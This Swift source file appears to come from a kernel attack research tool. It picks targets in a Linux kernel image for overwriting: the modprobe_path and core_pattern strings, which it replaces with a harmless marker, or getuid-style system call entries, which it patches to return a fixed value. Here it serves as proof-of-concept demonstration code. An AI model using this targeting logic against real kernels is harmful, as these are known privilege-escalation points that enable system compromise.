// SPDX-License-Identifier: MIT

// What attacks aim at: knowledge of Linux, one target a few lines. A string must
// be one that userspace can read back; a function one that a command calls and
// whose result it prints.

import Addressing
import ArgumentParser
import GuestCheck
import KernelImage
import KernelRewrite
import PagePermutation

enum AttackAim: String, CaseIterable, ExpressibleByArgument {
    case modprobePath = "modprobe-path"
    case corePattern = "core-pattern"
    case text

    /// What is written over a string.
    private static let marker = "/tmp/kperm-was-here"
    /// What a patched system call returns.
    private static let answer: UInt32 = 0x4b50_524d

    /// System calls, and commands that print what these return.
    private static let calls = [
        ("__x64_sys_getppid", "sh -c 'echo $PPID'"), ("__x64_sys_getuid", "id -ru"),
        ("__x64_sys_getgid", "id -rg"),
    ]

    /// - Parameter address: the target's, instead of its symbol's.
    func target(
        in image: borrowing KernelImage, _ analysis: KernelAnalysis, at address: VirtualAddress?
    ) throws -> AttackTarget {
        switch self {
        case .modprobePath:
            try Self.string("modprobe_path", "/proc/sys/kernel/modprobe", in: image, analysis, at: address)
        case .corePattern:
            try Self.string("core_pattern", "/proc/sys/kernel/core_pattern", in: image, analysis, at: address)
        case .text: try Self.function(in: image, analysis, at: address)
        }
    }

    private static func string(
        _ symbol: String, _ file: String, in image: borrowing KernelImage, _ analysis: KernelAnalysis,
        at address: VirtualAddress?
    ) throws -> AttackTarget {
        let start = try address ?? Addresses(image).range(symbol, in: image).lowerBound
        let room = pageSize - start.offsetInPage
        let bytes = analysis.map.bytes(at: start, count: room, in: image) ?? []
        let text = bytes.prefix { (0x21...0x7e).contains($0) }
        guard !text.isEmpty, text.count < bytes.count, bytes[text.count] == 0 else {
            throw CommandFailure.input("\(image.path): \(symbol) (\(start)) is not a text that ends in its page")
        }
        let offset = start.offsetInPage
        return AttackTarget(
            name: symbol, address: start, payload: Array(marker.utf8) + [0],
            isReadOnly: isReadOnly(start, analysis), stable: offset..<offset + text.count + 1,
            command: "cat \(file)", before: String(decoding: text, as: UTF8.self), after: marker)
    }

    private static func function(
        in image: borrowing KernelImage, _ analysis: KernelAnalysis, at address: VirtualAddress?
    ) throws -> AttackTarget {
        /// Where an indirect call must land, where the processor sees to that: it stays.
        let landing: [UInt8] = [0xf3, 0x0f, 0x1e, 0xfa]
        /// mov eax, imm32; ret. Over the call of the function tracer, which is no more than a nop then.
        let code = [0xb8] + (0..<4).map { UInt8(truncatingIfNeeded: answer >> (8 * $0)) } + [0xc3]
        let table = try Addresses(image)
        for (symbol, command) in calls {
            guard let entry = address ?? (try? table.range(symbol, in: image).lowerBound) else { continue }
            let isMarked = analysis.map.bytes(at: entry, count: landing.count, in: image) == landing
            let start = isMarked ? entry + UInt64(landing.count) : entry
            guard start.offsetInPage + code.count <= pageSize else { continue }
            return AttackTarget(
                name: symbol, address: start, payload: code, isReadOnly: isReadOnly(start, analysis),
                stable: 0..<pageSize, command: command, before: nil, after: String(answer))
        }
        let names = calls.map(\.0).joined(separator: ", ")
        throw CommandFailure.input("\(image.path): none of \(names) begins within one page")
    }

    private static func isReadOnly(_ address: VirtualAddress, _ analysis: KernelAnalysis) -> Bool {
        analysis.map.page(of: address).map { [.text, .rodata].contains(analysis.pageKinds[$0]) } ?? false
    }
}
